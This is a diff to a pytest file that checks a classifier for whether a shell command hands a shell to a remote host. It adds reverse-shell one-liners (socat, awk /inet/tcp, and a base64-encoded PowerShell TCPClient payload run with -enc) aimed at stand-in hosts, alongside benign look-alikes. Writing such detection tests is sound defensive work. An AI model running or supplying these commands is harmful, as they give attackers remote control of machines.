@@ -1,5 +1,6 @@
 """Shapes: what a program is told stays, what changes from one use to the next goes; and what a line means to do."""
 
+import base64
 import time
 
 import pytest
@@ -250,6 +251,11 @@ def test_naming_a_shell_is_not_handing_it_on(line: str) -> None:
     assert Trait.HANDS_ON_A_SHELL not in traits(line)
 
 
+ENCODED_SHELL = base64.b64encode(
+    "$c = New-Object Net.Sockets.TCPClient('198.51.100.7',443)\r\n$s = $c.GetStream()\r\niex $x".encode("utf-16-le")
+).decode()
+
+
 @pytest.mark.parametrize(
     ("trait", "lines", "lawful"),
     [
@@ -261,13 +267,23 @@ def test_naming_a_shell_is_not_handing_it_on(line: str) -> None:
                 "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
                 "python3 -c 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)'",
                 "sh -c 'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc x.org 9 > /tmp/f'",
+                "socat exec:'bash -li',pty,stderr tcp:x.org:4444",
+                "awk 'BEGIN {s = \"/inet/tcp/0/x.org/4242\"; while (1) {s |& getline c; print c |& s}}'",
+                f"cmd /c powershell -nop -enc {ENCODED_SHELL}",
             ),
             (
                 "timeout 1 bash -c '</dev/tcp/db/5432'",
                 'bash -c "(echo > /dev/tcp/db/5432) > /dev/null 2>&1"',
                 "python3 -c 'import socket; print(socket.gethostname())'",
                 "mkfifo /run/app/control",
+                "powershell -c \"(New-Object Net.Sockets.TcpClient('db1',1433)).Connected\"",
+                "socat tcp-listen:80 tcp:app:8080",
             ),
+        ),
+        (
+            Trait.BARE_ADDRESS,
+            (f"powershell.exe -EncodedCommand {ENCODED_SHELL}",),
+            (f"powershell.exe -Command {ENCODED_SHELL}",),
         ),
         (
             Trait.RUNS_FROM_THE_WEB,
